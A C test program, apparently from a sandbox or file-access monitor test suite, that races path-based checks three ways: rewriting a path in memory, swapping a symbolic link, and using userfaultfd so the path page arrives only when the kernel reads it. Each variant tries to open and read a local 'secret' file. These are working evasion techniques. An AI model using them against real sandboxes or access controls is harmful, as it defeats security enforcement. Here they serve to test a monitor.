/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Row 1: what the path says when somebody looks is not what the kernel opens.
 *
 * swap: a second thread rewrites the path in memory all the time. userfault: the page that holds the path is not there
 * until the kernel itself asks for it. symlink: a second thread renames a symbolic link to and fro.
 */
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "trick.h"

#define ROUNDS 20000

struct race {
	char path[TRICK_PATH]; /* what the opener passes */
	const char *names[2];  /* secret and decoy, of one length */
	char *name;            /* the last component inside path */
	atomic_bool is_over;
};

static void *rewrite(void *argument)
{
	struct race *race = argument;
	unsigned int turn = 0;

	while (!atomic_load_explicit(&race->is_over, memory_order_relaxed)) {
		memcpy(race->name, race->names[turn++ & 1], strlen(race->names[0]));
		for (volatile int pause = 0; pause < 200; pause++)
			;
	}
	return NULL;
}

static unsigned long open_often(const struct trick *trick, const char *path, unsigned long rounds)
{
	unsigned long secrets = 0;

	for (unsigned long i = 0; i < rounds; i++) {
		int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC, 0);

		if (fd < 0)
			continue;
		if (trick_is_secret(trick, fd)) {
			secrets++;
			trick_try_to_read(fd);
		}
		close(fd);
	}
	return secrets;
}

static void run_swap(const struct trick *trick)
{
	struct race race = {.names = {"secret", "decoys"}};
	pthread_t thread;
	unsigned long secrets;
	char decoy[TRICK_PATH];

	trick_path(race.path, sizeof(race.path), "%s", trick->secret);
	race.name = strrchr(race.path, '/') + 1;
	errno = 0;
	if (strcmp(race.name, "secret") != 0)
		trick_fail("the secret must be called 'secret' here");
	trick_path(decoy, sizeof(decoy), "%.*s/decoys", (int)(race.name - race.path - 1), race.path);
	trick_write_file(decoy, "nothing\n", 0600);
	if (pthread_create(&thread, NULL, rewrite, &race) != 0)
		trick_fail("a thread");
	secrets = open_often(trick, race.path, ROUNDS);
	atomic_store(&race.is_over, true);
	pthread_join(thread, NULL);
	trick_did("opened a path that a second thread rewrote, %d times; %lu were the secret", ROUNDS, secrets);
	trick_access(getpid(), "open", "openat", secrets);
}

static void *swap_link(void *argument)
{
	struct race *race = argument;
	unsigned int turn = 0;

	while (!atomic_load_explicit(&race->is_over, memory_order_relaxed)) {
		(void)unlink("next"); /* left over from a rename that failed */
		if (symlink(race->names[turn++ & 1], "next") == 0)
			(void)rename("next", "link");
	}
	return NULL;
}

static void run_symlink(const struct trick *trick)
{
	char decoy[TRICK_PATH];
	struct race race = {.names = {trick->secret, decoy}};
	pthread_t thread;
	unsigned long secrets;

	trick_path(decoy, sizeof(decoy), "%s/decoy", trick->scratch);
	trick_write_file(decoy, "nothing\n", 0600);
	if (chdir(trick->scratch) < 0 || symlink(decoy, "link") < 0)
		trick_fail("a symbolic link in '%s'", trick->scratch);
	if (pthread_create(&thread, NULL, swap_link, &race) != 0)
		trick_fail("a thread");
	secrets = open_often(trick, "link", ROUNDS / 2);
	atomic_store(&race.is_over, true);
	pthread_join(thread, NULL);
	trick_did("opened a symbolic link that a second thread swapped; %lu opens were the secret", secrets);
	trick_access(getpid(), "open", "openat", secrets);
}

struct pager {
	int uffd;
	char *page; /* what the fault is filled with */
	long size;
	int faults;
};

static void *serve_faults(void *argument)
{
	struct pager *pager = argument;
	struct uffd_msg message;

	while (read(pager->uffd, &message, sizeof(message)) == sizeof(message)) {
		struct uffdio_copy copy = {
			.dst = message.arg.pagefault.address & ~((unsigned long long)pager->size - 1),
			.src = (unsigned long)pager->page,
			.len = (unsigned long)pager->size,
		};

		if (message.event != UFFD_EVENT_PAGEFAULT || ioctl(pager->uffd, UFFDIO_COPY, &copy) < 0)
			break;
		if (++pager->faults == 20)
			break;
	}
	return NULL;
}

static void run_userfault(const struct trick *trick)
{
	struct pager pager = {.size = sysconf(_SC_PAGESIZE)};
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register range = {.mode = UFFDIO_REGISTER_MODE_MISSING};
	pthread_t thread;
	char *path = mmap(NULL, (size_t)pager.size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	unsigned long secrets = 0;

	pager.uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	if (pager.uffd < 0)
		trick_cannot("userfaultfd: %s", strerror(errno));
	pager.page = aligned_alloc((size_t)pager.size, (size_t)pager.size);
	if (path == MAP_FAILED || !pager.page)
		trick_fail("memory");
	snprintf(pager.page, (size_t)pager.size, "%s", trick->secret);
	range.range.start = (unsigned long)path;
	range.range.len = (unsigned long)pager.size;
	if (ioctl(pager.uffd, UFFDIO_API, &api) < 0 || ioctl(pager.uffd, UFFDIO_REGISTER, &range) < 0)
		trick_cannot("userfaultfd: %s", strerror(errno));
	if (pthread_create(&thread, NULL, serve_faults, &pager) != 0)
		trick_fail("a thread");
	for (int i = 0; i < 20; i++) {
		if (madvise(path, (size_t)pager.size, MADV_DONTNEED) < 0)
			trick_fail("madvise");
		secrets += open_often(trick, path, 1);
	}
	pthread_join(thread, NULL);
	errno = 0;
	if (secrets != 20)
		trick_fail("only %lu of 20 opens were the secret", secrets);
	trick_did("passed a path in a page that came only when the kernel read it, 20 times");
	trick_access(getpid(), "open", "openat", secrets);
}

int main(int argc, char **argv)
{
	static const struct trick_variant variants[] = {
		{"swap", run_swap}, {"symlink", run_symlink}, {"userfault", run_userfault}, {NULL, NULL}};

	return trick_main(argc, argv, variants);
}
